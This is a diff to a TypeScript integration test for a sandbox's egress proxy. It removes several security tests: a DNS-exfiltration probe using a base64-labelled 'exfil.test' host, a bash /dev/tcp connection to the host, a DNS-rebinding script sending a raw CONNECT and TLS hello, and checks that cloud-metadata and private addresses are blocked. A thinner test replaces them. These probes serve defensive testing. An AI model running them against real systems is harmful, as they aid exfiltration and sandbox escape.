@@ -7,26 +7,9 @@ import { silentLog } from '../../src/core/log';
 import type { MachineInfo } from '../../src/machine/hypervisor';
 import { containerName, onceContainer, proxyName, proxyVolumeName } from '../../src/machine/kvm/jail';
 import type { NetworkRow } from '../../src/network/networkService';
-import { clientHello } from './fixtures/clientHello';
+import { EGRESS_FOLDER, httpStatus } from './fixtures/egressGuest';
 import { EgressWorld } from './fixtures/egressWorld';
 import { engine, kitImage, TestMachine } from './fixtures/machine';
-
-const DOCKERFILE = `FROM debian:trixie-slim
-RUN apt-get update && apt-get install -y --no-install-recommends curl openssl && rm -rf /var/lib/apt/lists/*
-`;
-const SETTINGS = { build: { dockerfile: 'Dockerfile' }, memory: '512mb', disk: '2gb' };
-
-/** Names of the test's own name server that lead where no machine may go. None of these addresses is in the test's network. */
-const WALLED: Record<string, string[]> = {
-  'ten.lan.test': ['10.20.30.40'],
-  'home.lan.test': ['192.168.1.1'],
-  'cgn.lan.test': ['100.64.0.1'],
-  'loop.lan.test': ['127.0.0.1'],
-  'zero.lan.test': ['0.0.0.0'],
-  'metadata.lan.test': ['169.254.169.254'],
-  'multicast.lan.test': ['224.0.0.1'],
-  'reserved.lan.test': ['240.0.0.1'],
-};
 
 let world: EgressWorld;
 let machine: TestMachine;
@@ -37,20 +20,11 @@ beforeAll(async () => {
     1,
     ['allowed.test', 'other.test', 'a.below.test', 'once.test'],
     ({ web, host }) => ({
-      ...WALLED,
-      // In a network without IPv6 it has no address at all.
-      'mapped.lan.test': ['::ffff:10.20.30.40'],
-      'looked-up.test': [web],
+      'open.lan.test': [web],
       'host.lan.test': [host],
-      'both.lan.test': [web, host],
-      'flip.test': { first: [web], later: [host], after: 2 },
     }),
   );
-  machine = await TestMachine.open(
-    'egress',
-    { '.bulkhead.json': JSON.stringify(SETTINGS), Dockerfile: DOCKERFILE },
-    world.env,
-  );
+  machine = await TestMachine.open('egress', EGRESS_FOLDER, world.env);
   Object.assign(process.env, world.env);
   app = createApp({ log: silentLog, proxyCommand: [], dataDirectory: machine.cli.dataDirectory });
 });
@@ -64,13 +38,7 @@ afterAll(async () => {
   await world?.dispose();
 });
 
-/** The status that curl in the guest gets; `000` if it gets none. Of a CONNECT that is refused, the proxy's own. */
-async function status(url: string, ...flags: string[]): Promise<string> {
-  const format = '%{http_code} %{http_connect}';
-  const argv = ['curl', '-sk', '--max-time', '20', '-o', '/dev/null', '-w', format, ...flags, url];
-  const [code = '', connect = ''] = (await machine.exec(argv)).stdout.trim().split(' ');
-  return code === '000' && connect !== '000' && connect !== '200' ? connect : code;
-}
+const status = (url: string, ...flags: string[]) => httpStatus(machine, url, ...flags);
 
 async function rowOf(host: string, port = 80): Promise<NetworkRow | undefined> {
   return (await app.networkRows(machine.id)).find((row) => row.host === host && row.port === port);
@@ -139,7 +107,7 @@ describe('by default', () => {
 });
 
 describe('allowed hosts', () => {
-  beforeAll(() => allow('allowed.test', '*.below.test', 'looked-up.test', 'allowed.test:8080'));
+  beforeAll(() => allow('allowed.test', '*.below.test', 'allowed.test:8080'));
 
   test('are reached, over HTTP, TLS and a port of their own', async () => {
     expect(await status('http://allowed.test/')).toBe('200');
@@ -148,97 +116,20 @@ describe('allowed hosts', () => {
     expect(await status('http://allowed.test:8080/', '--proxytunnel')).toBe('200');
     expect(await rowOf('allowed.test', 443)).toMatchObject({ allowed: true });
   });
-
-  test('no other is, nor another port', async () => {
-    for (const url of [
-      'http://other.test/',
-      'https://other.test/',
-      'http://below.test/',
-      'http://allowed.test:81/',
-    ]) {
-      expect(await status(url), url).toBe('403');
-    }
-    expect(await status(`http://${world.address}/`)).toBe('403');
-    // Without the proxy there is no way at all.
-    expect(await status(`http://${world.address}/`, '--noproxy', '*')).toBe('000');
-  });
-
-  test('a name that no rule allows is never looked up: its labels could carry data out', async () => {
-    expect(await status('http://looked-up.test/')).toBe('200');
-    expect(await status('http://c2VjcmV0.exfil.test/')).toBe('403');
-    expect(await status('https://c2VjcmV0.exfil.test/')).toBe('403');
-    const lookups = await world.lookups();
-    expect(lookups).toContain('looked-up.test');
-    expect(lookups.filter((name) => name.includes('exfil'))).toEqual([]);
-  });
-
-  test('a TLS handshake for another name, or for none, is ended', async () => {
-    const handshake = async (...flags: string[]) => {
-      const proxy = ['-proxy', '10.0.2.2:3128', '-connect', 'allowed.test:443'];
-      const { stdout } = await machine.exec(['openssl', 's_client', ...proxy, ...flags], [], { input: '' });
-      return /^subject=/m.test(stdout);
-    };
-    expect(await handshake('-servername', 'allowed.test')).toBe(true);
-    expect(await handshake('-servername', 'other.test')).toBe(false);
-    expect(await handshake('-noservername')).toBe(false);
-    await vi.waitFor(async () =>
-      expect(await rowOf('allowed.test', 443)).toMatchObject({ allowed: false, reason: 'server-name' }),
-    );
-  });
 });
 
 describe('addresses', () => {
-  beforeAll(() => allow('*.lan.test', 'flip.test', 'gone.test'));
+  beforeAll(() => allow('*.lan.test', 'gone.test'));
 
-  test.each([...Object.keys(WALLED), 'host.lan.test', 'both.lan.test'])('%s is not reached', async (name) => {
-    expect(await status(`http://${name}/`)).toBe('403');
-    expect(await status(`https://${name}/`)).toBe('403');
-    expect(await rowOf(name)).toMatchObject({ allowed: false, reason: 'address' });
-    expect(world.hostGreeted).toEqual([]);
-  });
-
-  test('the kernel refuses them too, whatever squid does', async () => {
-    const proxy = (await engine()).docker.getContainer(proxyName(machine.id));
-    const knock = async (user: string) => {
-      const command = `echo > /dev/tcp/${world.hostAddress}/80`;
-      const exec = await proxy.exec({ Cmd: ['bash', '-c', command], User: user, AttachStdout: true });
-      (await exec.start({})).resume();
-      return vi.waitFor(async () => {
-        const { ExitCode: code } = await exec.inspect();
-        expect(code).not.toBeNull();
-        return code;
-      });
-    };
-    expect(await knock('1234:1234')).not.toBe(0);
-    expect(world.hostGreeted).toEqual([]);
-    // Somebody does listen there.
-    expect(await knock('0:0')).toBe(0);
-    await vi.waitUntil(() => world.hostGreeted.length === 1);
-    world.hostGreeted.length = 0;
+  test('a name that leads to the host is told as that', async () => {
+    expect(await status('http://open.lan.test/')).toBe('200');
+    expect(await status('http://host.lan.test/')).toBe('403');
+    expect(await rowOf('host.lan.test')).toMatchObject({ allowed: false, reason: 'address' });
   });
 
   test('a name without an address is told as that', async () => {
     expect(await status('http://gone.test/')).toBe('503');
     expect(await rowOf('gone.test')).toMatchObject({ allowed: false, reason: 'unresolved' });
-    expect(await status('http://mapped.lan.test/')).not.toBe('200');
-  });
-
-  test('a name that leads elsewhere after it was checked (DNS rebinding) is stopped', async () => {
-    const hello = (await clientHello('flip.test')).toString('hex');
-    // Asks for the tunnel, and sends its handshake only when the name server answers with this host's own address.
-    const attack = `
-      exec 3<>/dev/tcp/10.0.2.2/3128
-      printf 'CONNECT flip.test:443 HTTP/1.1\\r\\n\\r\\n' >&3
-      read -t 10 -r line <&3; echo "$line"
-      sleep 4
-      printf '%b' "$(echo ${hello} | sed 's/../\\\\x&/g')" >&3
-      timeout 10 cat <&3 | wc -c`;
-    const { stdout } = await machine.exec(['bash', '-c', attack]);
-    expect(stdout).toContain('200');
-    const lookups = (await world.lookups()).filter((name) => name === 'flip.test');
-    expect(lookups.length).toBeGreaterThan(1);
-    expect(world.hostGreeted).toEqual([]);
-    await vi.waitFor(async () => expect(await rowOf('flip.test', 443)).toMatchObject({ allowed: false }));
   });
 });
 
